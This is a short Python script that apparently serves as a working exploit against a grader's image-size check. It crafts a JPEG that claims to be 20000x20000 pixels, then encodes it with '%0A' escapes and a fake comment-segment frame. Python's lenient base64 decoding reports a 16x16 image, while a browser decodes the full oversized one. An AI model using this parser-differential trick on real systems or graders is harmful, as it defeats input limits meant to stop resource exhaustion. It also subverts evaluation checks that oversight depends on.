import io, base64, re, struct, sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
from grader.feedback import image_size
from PIL import Image

def big_jpeg(w, h, progressive=False, size=64):
    """a real small JPEG whose frame header is patched to w x h (scan data ends early: decoders fill the rest)."""
    buf = io.BytesIO()
    Image.new("L", (size, size), 128).save(buf, "JPEG", quality=50, progressive=progressive)
    raw = bytearray(buf.getvalue())
    m = re.search(rb"\xff[\xc0\xc2]", raw)
    raw[m.start() + 5:m.start() + 9] = struct.pack(">HH", h, w)
    return bytes(raw)

def smuggle(raw: bytes, fake=b"\xff\xc0\x00\x0b\x08\x00\x10\x00\x10\x01\x01") -> str:
    """base64 text of `raw` with one COM segment after SOI and one %0A escape at char 4: Python's
    b64decode(validate=False) drops '%' and keeps '0A', so everything after reads 12 bits off, and there the COM's
    bytes read as `fake` (a 16 x 16 frame); a browser percent-decodes %0A to a newline and strips it."""
    fake = fake + b"\x00" * (-len(fake) % 3)
    S = base64.b64encode(fake).decode()
    quads = "AA" + S + "AA"  # B chars q-4 .. ; S starts at B char q-2
    payload = base64.b64decode(quads)
    # B: FFD8 FFFE LLLL [pad] payload [pad]; payload must start at a B byte offset divisible by 3
    head = b"\xff\xd8\xff\xfe"
    pre = 3 + (-(len(head) + 2) % 3)  # bytes after the length so that the payload starts at a multiple of 3
    body = b"\x00" * pre + payload + b"\x00" * 3
    B = head + struct.pack(">H", len(body) + 2) + body + raw[2:]
    while len(B) % 3:  # no '=' padding, so that one more escape at the end makes the check's view whole quads
        body += b"\x00"
        B = head + struct.pack(">H", len(body) + 2) + body + raw[2:]
    text = base64.b64encode(B).decode()
    return text[:4] + "%0A" + text[4:] + "%0A", base64.b64encode(B).decode()

if __name__ == "__main__":
    raw = big_jpeg(20000, 20000)
    T, B = smuggle(raw)
    print("plain B:", image_size("image/jpeg", B), "escaped T:", image_size("image/jpeg", T))
